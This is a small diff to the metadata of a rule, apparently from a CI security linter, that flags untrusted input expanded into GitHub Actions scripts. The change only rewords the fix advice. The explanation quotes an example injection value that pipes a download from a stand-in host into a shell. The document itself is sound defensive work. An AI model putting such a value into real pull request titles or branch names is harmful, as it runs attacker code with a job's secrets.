@@ -3,7 +3,7 @@ import type {RuleAbout} from '../../rule.js'
 export const about: RuleAbout = {
   summary: 'Untrusted input is expanded into a script',
   why: 'An expression in a script is replaced before the shell starts. A title, a branch name or a commit message is whatever its author wrote: `"; curl evil.example | sh; #` in a title becomes commands of the job. They run with all that the job holds: its OIDC identity, its secrets, its service connection. Where it holds none of these it is a warning.',
-  fix: 'Hand the value over in `env` and use the variable, quoted: `"$TITLE"`. The shell then takes it as one value, whatever it contains. In `actions/github-script` read `process.env` or `context.payload`.',
+  fix: 'Pass the value through `env` and use the quoted variable: `"$TITLE"`. The shell then takes it as one value, whatever it contains. In `actions/github-script` read `process.env` or `context.payload`.',
   securitySeverity: 9,
   references: [
     'https://docs.github.com/en/actions/concepts/security/script-injections',
